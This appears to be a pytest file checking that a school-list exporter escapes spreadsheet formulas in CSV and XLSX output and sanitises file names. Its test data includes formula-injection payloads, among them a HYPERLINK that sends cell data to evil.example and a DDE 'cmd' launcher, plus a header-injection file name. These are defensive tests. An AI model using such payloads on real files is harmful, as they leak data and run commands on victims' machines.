"""Files that people open in a spreadsheet: exact, and no name in them is a formula."""

import csv
import datetime as dt
import io
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from include.desk.exports import About, is_formula, write_export
from include.errors import SchoolhouseError

ABOUT = About(
    "After-school list, Ålpha",
    "2026-spring.after_school.2026-03-02.1.abcd1234",
    dt.date(2026, 3, 2),
    dt.date(2026, 3, 4),
    "ana.lopez",
    "For the team of the school only; delete it when the term is over.",
)
COLUMNS = ("Rank", "Name", "Note", "Offered on")
NAMES = ['=HYPERLINK("http://evil.example/?"&B9,"x")', "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1)", "\t=1", " =1+1",
         "＝1+1", "\u200b=1", "Zoë O'Núñez", "李"]  # fmt: skip
ROWS = [(number, name, None, dt.date(2026, 3, 3)) for number, name in enumerate(NAMES, start=1)]


def test_csv_says_what_it_is_and_holds_no_formula() -> None:
    content = write_export("csv", ABOUT, COLUMNS, ROWS)
    assert content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    assert rows[:5] == [
        ["After-school list, Ålpha"],
        ["List", "2026-spring.after_school.2026-03-02.1.abcd1234"],
        ["As of", "2026-03-02"],
        ["Exported", "2026-03-04", "ana.lopez"],
        ["For the team of the school only; delete it when the term is over."],
    ]
    assert rows[5:7] == [[], list(COLUMNS)]
    assert [row[1] for row in rows[7:]] == [*(f"'{name}" for name in NAMES[:8]), *NAMES[8:]]
    assert rows[7] == ["1", f"'{NAMES[0]}", "", "2026-03-03"]


def test_a_workbook_keeps_names_as_they_are_and_as_text() -> None:
    content = write_export("xlsx", ABOUT, COLUMNS, ROWS)
    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet is not None
    found = [sheet.cell(row, 2) for row in range(8, 8 + len(NAMES))]
    assert [cell.value for cell in found] == NAMES
    assert {cell.data_type for cell in found} == {"s"} and all(cell.quotePrefix for cell in found)
    assert sheet["A8"].value == 1 and sheet["D8"].value == dt.datetime(2026, 3, 3)
    assert sheet["B2"].value == ABOUT.version and sheet["A5"].value == ABOUT.notice
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        assert b"<f>" not in book.read("xl/worksheets/sheet1.xml")


def test_a_workbook_takes_what_xml_cannot() -> None:
    content = write_export("xlsx", ABOUT, ("Name",), [("a\x07b",)])
    assert load_workbook(io.BytesIO(content)).active["A8"].value == "a\ufffdb"


@pytest.mark.parametrize("text", ["", "5", "a=b", "'=1", "O'-Neil", "ação"])
def test_plain_text_is_left_alone(text: str) -> None:
    assert not is_formula(text)


def test_the_file_is_named_by_the_list_alone(tmp_path: Path) -> None:
    assert ABOUT.file_name("csv") == "2026-spring.after_school.2026-03-02.1.abcd1234.2026-03-04.csv"
    odd = About("t", '../x"\r\nSet-Cookie: a', ABOUT.as_of, ABOUT.made_on, "x", "n")
    assert odd.file_name("xlsx") == "x-Set-Cookie-a.2026-03-04.xlsx"
    with pytest.raises(SchoolhouseError, match="csv and xlsx"):
        write_export("pdf", ABOUT, COLUMNS, ROWS)
